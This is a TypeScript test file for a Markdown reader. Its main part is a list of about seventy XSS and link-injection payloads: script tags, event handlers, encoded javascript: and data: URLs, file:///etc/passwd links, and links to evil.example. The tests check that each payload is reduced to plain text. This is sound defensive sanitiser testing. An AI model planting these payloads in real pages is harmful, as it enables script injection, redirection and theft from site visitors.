import { readMarkdown } from './read-markdown';

const words = (text: string): string =>
  readMarkdown(text)
    .flatMap(({ spans }) => spans.map((span) => span.text))
    .join('|');
const hrefs = (text: string): (string | null)[] =>
  readMarkdown(text).flatMap(({ spans }) => spans.map(({ href }) => href));

describe('Markdown', () => {
  it('is read as paragraphs, headings, lists, emphasis and links', () => {
    const text =
      '# Why me\n\nI **know** the _valley_\\\nwell.\n\n- Buses\n- [Beds](https://beds.example/x)\n\n1. First';
    expect(readMarkdown(text).map(({ kind }) => kind)).toEqual([
      'heading',
      'paragraph',
      'bullet',
      'bullet',
      'number',
    ]);
    expect(words(text)).toBe('Why me|I |know| the |valley|\n|well.|Buses|Beds|First');
    const [, paragraph, , beds] = readMarkdown(text);
    expect(paragraph?.spans[1]).toMatchObject({ text: 'know', strong: true, emphasis: false });
    expect(paragraph?.spans[3]).toMatchObject({ text: 'valley', strong: false, emphasis: true });
    expect(beds?.spans[0]?.href).toBe('https://beds.example/x');
  });
  it('keeps the words of what it has no form for', () => {
    expect(words('`code` and ![a picture](https://x.example/p.png)')).toBe('code| and |a picture');
    expect(words('```\nfenced\n```\n\n> quoted\n\n    indented')).toBe('fenced|quoted|indented');
    expect(words('| a | b |\n|---|---|\n| c | d |')).toBe('a|b|c|d');
  });
  it('of nothing is nothing', () => {
    expect(readMarkdown(' \n\n---\n')).toEqual([]);
  });
});

/** What somebody could try to smuggle into other people's pages. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<body onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href=//evil.example>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<form action=//evil.example><input name=x></form>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?php echo 1 ?>',
  '[x](javascript:alert(1))',
  '[x](JaVaScRiPt:alert(1))',
  '[x](java\nscript:alert(1))',
  '[x](java&#10;script:alert(1))',
  '[x](&#106;avascript:alert(1))',
  '[x](&#x6A&#x61&#x76&#x61script:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](\u0001javascript:alert(1))',
  '[x](%6Aavascript:alert(1))',
  '[x](vbscript:msgbox(1))',
  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[x](data:image/svg+xml,<svg onload=alert(1)>)',
  '[x](file:///etc/passwd)',
  '[x](ftp://evil.example/)',
  '[x](http://evil.example/)',
  '[x](//evil.example/)',
  '[x](/\\evil.example)',
  '[x](/api/v1/sign-in/session)',
  '[x](?next=evil)',
  '[x](#booth)',
  '[x](blob:https://evil.example/1)',
  '[x](intent://evil.example#Intent;scheme=https;end)',
  '[x](ws://evil.example)',
  '[x](https://council.example@evil.example/)',
  '[x](https://user:pass@evil.example/)',
  '[x](tel:+441632960000)',
  '[x](about:blank)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '[x][y]\n\n[y]: <data:text/html,1> "title"',
  '<javascript:alert(1)>',
  '<http://evil.example>',
  '![x](javascript:alert(1))',
  '![x](https://evil.example/track.png "onerror=alert(1)")',
  '![x" onerror="alert(1)](https://evil.example/track.png)',
  '[![x](https://evil.example/a.png)](javascript:alert(1))',
  '[x](https://ok.example "\\" onmouseover=alert(1) \\"")',
  '[<img src=x onerror=alert(1)>](javascript:alert(1))',
  '`<script>alert(1)</script>`',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '    <script>alert(1)</script>',
  '> <script>alert(1)</script>',
  '- <script>alert(1)</script>',
  '# <script>alert(1)</script>',
  '| <script>alert(1)</script> |\n|---|\n| x |',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
];

describe('a statement that means harm', () => {
  it.each(hostile)('is words: %j', (text) => {
    const blocks = readMarkdown(text);
    for (const block of blocks) {
      expect(Object.keys(block).sort()).toEqual(['kind', 'spans']);
      expect(['paragraph', 'heading', 'bullet', 'number']).toContain(block.kind);
      for (const span of block.spans) {
        expect(Object.keys(span).sort()).toEqual(['emphasis', 'href', 'strong', 'text']);
        expect(typeof span.text).toBe('string');
      }
    }
    expect(hrefs(text).filter((href) => href !== null && href !== 'https://ok.example')).toEqual(
      [],
    );
  });
  it('in sixty ways and more', () => {
    expect(new Set(hostile).size).toBeGreaterThanOrEqual(60);
  });
  it('does not take long, however it nests', () => {
    const begun = process.cpuUsage();
    readMarkdown('['.repeat(5_000) + '*'.repeat(2_500) + '>'.repeat(2_500));
    readMarkdown('- '.repeat(5_000));
    readMarkdown('a**a_'.repeat(2_000));
    expect(process.cpuUsage(begun).user).toBeLessThan(10_000_000); // microseconds of work, however busy the machine is
  });
});
